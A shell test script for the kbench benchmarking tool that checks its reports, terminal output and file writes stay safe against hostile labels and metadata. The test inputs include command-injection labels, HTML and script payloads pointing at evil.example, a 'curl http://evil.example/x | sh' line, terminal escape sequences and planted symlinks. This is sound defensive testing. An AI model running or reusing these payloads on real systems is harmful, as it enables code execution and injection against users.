#!/bin/sh
# What kbench writes for someone else to read, run or render, from hostile
# labels, keys, facts and commands: the commands to reproduce (a shell
# runs them), report.md (GitHub renders it), the terminal (it obeys escape
# sequences), ministat's file names, and the files -o names (a device, a
# FIFO, a symbolic link) or that kbench makes itself beside them.
. "$(dirname "$0")/lib.sh"
unset KBENCH_LIBEXEC

# 1. The commands to reproduce are argv, stored as a JSON array and shown
# with POSIX quoting: a reviewer's shell reads each line back into exactly
# the words that were run, and runs nothing of a label.
A='a;touch pwned-a;#'
B='$(touch pwned-b) `touch pwned-c` it'"'"'s'
{
	echo "label,m,v"
	for i in 1 2 3 4 5 6; do
		echo "\"$A\",x,$i"
		echo "\"$(printf '%s' "$B" | sed 's/"/""/g')\",x,$((i * 3))"
	done
} >inj.csv
kb --db sh.db import -q --run-by label --key m --value v \
    --meta "quote=it's \"so\"" --meta 'nl=one
two' --meta "esc=$(printf 'a\033[2Jb\342\200\256c')" inj.csv
expect_rc 0 "an import whose labels and facts are shell"
v=$(db_query sh.db "SELECT DISTINCT command FROM run")
case $v in '["kbench","--db","sh.db","import",'*) ok "the command is stored as a JSON array of its words" ;;
*) not_ok "the command is stored as a JSON array of its words: $v" ;; esac
kb --db sh.db report --compare "$A" "$B" -o rep
expect_rc 0 "a report of the two"
python3 - rep/report.md sh.db <<'EOF' >check.out 2>&1
import json, re, sqlite3, subprocess, sys
md = open(sys.argv[1], encoding="utf-8").read()
m = re.search(r"^## Reproduce\n\n(`{3,})sh\n(.*?)^\1$", md, re.S | re.M)
assert m, "no Reproduce block"
block = m.group(2)
subprocess.run(["sh", "-n"], input=block, text=True, check=True)
# One line per distinct command: one import made both runs.
want = []
for r in sqlite3.connect(sys.argv[2]).execute("SELECT command FROM run"):
    if json.loads(r[0]) not in want:
        want.append(json.loads(r[0]))
want.append(["kbench", "--db", "sh.db", "report", "--compare",
             "a;touch pwned-a;#",
             "$(touch pwned-b) `touch pwned-c` it's", "-o", "rep"])
got = []
# Each logical line as sh reads it: a quoted newline stays inside its word.
script = "kbench() { printf '%s\\0' \"$@\"; printf '\\1'; }\n" + block
out = subprocess.run(["sh", "-c", script], capture_output=True,
                     check=True).stdout.decode()
for cmd in out.split("\1")[:-1]:
    got.append(["kbench"] + cmd.split("\0")[:-1])
assert got == want, "got %r, want %r" % (got, want)
print("ok")
EOF
[ "$(cat check.out)" = ok ]
check $? "report.md: sh -n passes, and each line gives back its argv exactly: $(head -c 300 check.out)"
[ -z "$(ls pwned-* 2>/dev/null)" ]; check $? "nothing of a label ran"
grep -q "touch pwned-a" rep/report.html; check $? "report.html shows the same commands"
# report.txt wraps its commands between words with " \" and comments
# with "#": pasted into a shell, each still gives back its argv exactly.
python3 - rep/report.txt sh.db <<'EOF' >check.out 2>&1
import json, sqlite3, subprocess, sys
txt = open(sys.argv[1], encoding="utf-8").read()
block = txt.split("\nReproduce\n", 1)[1]
subprocess.run(["sh", "-n"], input=block, text=True, check=True)
want = []
for r in sqlite3.connect(sys.argv[2]).execute("SELECT command FROM run"):
    if json.loads(r[0]) not in want:
        want.append(json.loads(r[0]))
want.append(["kbench", "--db", "sh.db", "report", "--compare",
             "a;touch pwned-a;#",
             "$(touch pwned-b) `touch pwned-c` it's", "-o", "rep"])
script = "kbench() { printf '%s\\0' \"$@\"; printf '\\1'; }\n" + block
out = subprocess.run(["sh", "-c", script], capture_output=True,
                     check=True).stdout.decode()
got = [["kbench"] + c.split("\0")[:-1] for c in out.split("\1")[:-1]]
assert got == want, "got %r, want %r" % (got, want)
print("ok")
EOF
[ "$(cat check.out)" = ok ]
check $? "report.txt: sh -n passes, and each wrapped command gives back its argv exactly: $(head -c 300 check.out)"
[ -z "$(ls pwned-* 2>/dev/null)" ]; check $? "nothing of a label ran from report.txt"

# 2. report.md renders as text whatever its labels, keys and facts hold:
# no raw HTML, no link to elsewhere, and no code block closed by its
# content (a stored command with a fence and a "curl ... | sh" line).
{
	echo 'label,method,v'
	for i in 1 2 3 4 5 6; do
		echo "<b>before</b>,<img src=http://evil.example/a.png><script>alert(1)</script>,$i"
		echo "[x](http://evil.example) ![i](http://evil.example/i.png),<img src=http://evil.example/a.png><script>alert(1)</script>,$((i * 2))"
	done
} >md.csv
kb --db md.db import -q --run-by label --key method --value v \
    --meta 'note=<iframe src=http://evil.example></iframe>' \
    --meta 'site=see http://evil.example/ or www.evil.example, ask joe@evil.example' \
    --meta 'fence=```
curl http://evil.example/x | sh
```' md.csv
expect_rc 0 "labels, keys and facts that are HTML and Markdown"
kb --db md.db report --compare "<b>before</b>" \
    "[x](http://evil.example) ![i](http://evil.example/i.png)" -o mdrep
expect_rc 0 "their report"
if command -v cmark-gfm >/dev/null 2>&1; then
	# As GitHub renders it (its extensions), and with raw HTML let
	# through: whatever reaches the HTML was made by the Markdown.
	cmark-gfm --unsafe -e table -e autolink -e tagfilter -e strikethrough \
	    mdrep/report.md >md.html
	python3 - md.html <<'EOF' >check.out 2>&1
import html.parser, sys
allowed = {"h1", "h2", "p", "strong", "em", "table", "thead", "tbody", "tr",
           "th", "td", "img", "pre", "code", "ul", "li", "br", "details",
           "summary"}
bad = []
class P(html.parser.HTMLParser):
    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        if tag not in allowed:
            bad.append(tag)
        if tag == "img" and ("/" in a.get("src", "/") or ":" in a.get("src", ":")):
            bad.append("img src=%s" % a.get("src"))
    def handle_comment(self, data):
        bad.append("<!--%s-->" % data)
text = open(sys.argv[1], encoding="utf-8").read()
P().feed(text)
code = text.split('<pre><code class="language-sh">')[-1].split("</code></pre>")[0]
if "curl http://evil.example/x | sh" not in code:
    bad.append("the command's fence closed the code block")
print(" ".join(bad) if bad else "ok")
EOF
	[ "$(cat check.out)" = ok ]
	check $? "report.md renders with no raw HTML element, no link, no escaped code block: $(head -c 300 check.out)"
	grep -q 'href=' md.html; [ $? -ne 0 ]; check $? "report.md: no href at all"
	grep -q '&lt;script&gt;alert(1)&lt;/script&gt;' md.html
	check $? "report.md: a key that is HTML shows as text"
	# analyze --format markdown: its header (the labels), the notes
	# and warnings (series, facts) as text too, not only its table.
	kb --db md.db analyze --compare "<b>before</b>" \
	    "[x](http://evil.example) ![i](http://evil.example/i.png)" \
	    --format markdown --warnings full
	cmark-gfm --unsafe -e table -e autolink -e tagfilter -e strikethrough \
	    "$T/out" >amd.html
	n=$(grep -c '<a \|<img\|<script\|<b>\|<iframe' amd.html)
	[ "$n" -eq 0 ]; check $? "analyze --format markdown: no link, image or raw HTML rendered ($n)"
	# A line of the header that wrapping starts with "- " or "1. " (a
	# label such as "patch - take 2"): a list item, once.
	printf 'label,k,v\n' >li.csv
	for i in 1 2 3 4 5 6; do
		echo "before,x,$i" >>li.csv
		echo "patch-xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx - take 2 1. x,x,$((i + 3))" >>li.csv
	done
	"$KBENCH" --db li.db import -q --run-by label --key k --value v li.csv
	for w in 40 60 80 100; do
		"$KBENCH" --db li.db analyze --compare before \
		    "patch-xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx - take 2 1. x" \
		    --format markdown --width $w | cmark-gfm -e table
	done >li.html
	n=$(grep -c '<li>\|<ol\|<h[12]>' li.html)
	[ "$n" -eq 0 ]; check $? "analyze --format markdown: no wrapped line becomes a list or a heading ($n)"
else
	skip "report.md rendering: no cmark-gfm (make deps installs it)"
fi

# A long fact is shown whole (a kernel command line's differing word can
# be anywhere): 99 bytes of 'a', then a two-byte é across the 100th byte.
long=$(awk 'BEGIN { for (i = 0; i < 99; i++) printf "a"; printf "\303\251tude" }')
kb --db long.db import -q --run-by label --key m --value v --meta "long=$long" inj.csv
kb --db long.db report --compare "$A" "$B" -o longrep
expect_rc 0 "a report with a long fact"
python3 -c 'import sys
t = open(sys.argv[1], encoding="utf-8", errors="strict").read()
assert "a" * 99 + "\u00e9tude" in t' longrep/report.md
check $? "report.md: the long fact whole, the file valid UTF-8"
grep -q "$long" longrep/report.html
check $? "report.html: the same, whole"

# 3. The terminal: escape sequences in imported benchmark names, facts
# and key values are shown escaped, in runs and in the text tables (a
# unit's or a fact name's is refused at import: t_import.sh).
esc=$(printf '\033')
h=run,label,benchmark,status,started,ended,command,version,fact.host,key.m,unit,better,seq,value
{
	echo "$h"
	for i in 0 1 2; do
		echo "r1,lab,b${esc}[31mRED,complete,2026-01-01T00:00:00Z,,,,h${esc}]0;TITLE$(printf '\007'),x${esc}[2J,us,lower,$i,$i"
	done
} >esc.csv
kb --db esc.db import -q esc.csv
expect_rc 0 "names, facts and key values with escape sequences"
kb --db esc.db runs
expect_rc 0 "runs"
! grep -q "$esc" "$T/out"; check $? "runs: no escape character reaches the terminal"
grep -q 'b\\x1b\[31mRED  *complete .* h\\x1b\]0;TITLE\\x07 ' "$T/out"
check $? "runs: they show as \\x1b: $(sed -n 2p "$T/out")"
kb --db esc.db analyze
expect_rc 0 "analyze"
! grep -q "$esc" "$T/out"; check $? "analyze: no escape character reaches the terminal"
grep -q 'm=x\\x1b\[2J' "$T/out"; check $? "analyze: the key value shows as x\\x1b[2J"
kb --db esc.db trend
! grep -q "$esc" "$T/out"; check $? "trend: no escape character reaches the terminal"

# 4. ministat file names are one to one: labels v6.1 and v6_1 would both
# be v6_1; each gets its own file, never one file for two.
printf 'label,method,v\nv6.1,poll,1\nv6.1,poll,2\nv6_1,poll,30\nv6_1,poll,40\nv7,poll,5\n' >ms.csv
kb --db ms.db import -q --run-by label --key method --value v ms.csv
mkdir ms
kb --db ms.db export --format ministat -o ms
expect_rc 0 "labels that make the same file name"
v=$(cd ms && for f in *; do printf '%s:%s\n' "$f" "$(tr '\n' ' ' <"$f")"; done |
    sed 's/~[0-9a-f]\{8\}/~HASH/' | sort | tr '\n' '|')
[ "$v" = "v6_1.method-poll.~HASH.txt:1 2 |v6_1.method-poll.~HASH.txt:30 40 |v7.method-poll.txt:5 |" ]
check $? "each label its own file, told apart by a hash of its name ($v)"
mkdir ms2
"$KBENCH" --db ms.db export --format ministat -o ms2
[ "$(ls ms)" = "$(ls ms2)" ]; check $? "the same names on every export"

# 5. Files: -o names a device, a FIFO or a link of ours: written there, not
# replaced; a link someone else made is not followed; the files kbench
# makes itself beside its outputs are made anew (O_EXCL), never through a
# link planted under their name.
# A device of our own when we are root (a kbench that replaced devices
# must not take this machine's /dev/null with it); /dev/null else.
null=/dev/null
if [ "$(id -u)" -eq 0 ] && mknod null c 1 3 2>/dev/null; then
	null=$T/null
fi
kb --db ms.db export -o "$null"
expect_rc 0 "export -o $null (a device)"
[ -c "$null" ]; check $? "$null is still a device"
mkfifo fifo
timeout 20 cat fifo >fifo.out &
reader=$!
kb --db ms.db export -o fifo
expect_rc 0 "export -o FIFO"
wait $reader
[ -p fifo ] && [ "$(wc -l <fifo.out)" = 6 ]; check $? "the FIFO is still one, and carried the CSV"
ln -s target.csv link.csv
kb --db ms.db export -o link.csv
expect_rc 0 "export -o a link of ours"
[ -L link.csv ] && [ "$(wc -l <target.csv)" = 6 ]; check $? "the link stays, its target has the CSV"
if [ "$(id -u)" -eq 0 ]; then
	echo precious >victim
	ln -s victim other.csv
	chown -h nobody other.csv
	kb --db ms.db export -o other.csv
	expect_rc 4 "export -o a link another user made"
	expect_err "kbench: export: other.csv: a symbolic link made by uid $(id -u nobody), not by you: not followed" \
	    "export -o a link another user made: refused"
	[ "$(cat victim)" = precious ]; check $? "its target is untouched"
fi
mkdir planted
echo precious >victim2
echo precious >victim3
ln -s "$T/victim2" planted/report.md.tmp
ln -s "$T/victim3" planted/compare.gp
kb --db sh.db report --compare "$A" "$B" -o planted
expect_rc 0 "a report where links were planted"
[ "$(cat victim2)" = precious ] && [ "$(cat victim3)" = precious ]
check $? "the planted links' targets are untouched"
[ -f planted/compare.gp ] && [ ! -L planted/compare.gp ]
check $? "the script is a file of its own, in place of the link"
